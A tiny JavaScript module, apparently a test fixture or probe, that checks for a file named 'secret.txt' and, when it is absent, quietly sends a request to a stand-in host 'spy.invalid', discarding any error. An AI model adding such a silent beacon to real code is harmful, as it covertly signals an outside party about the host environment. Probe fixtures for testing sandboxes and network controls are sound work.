import { existsSync } from 'node:fs'

const isThere = () => {
  try {
    return existsSync('stages/probe/secret.txt')
  } catch {
    return false
  }
}
if (!isThere()) await fetch('http://spy.invalid').catch(() => {})
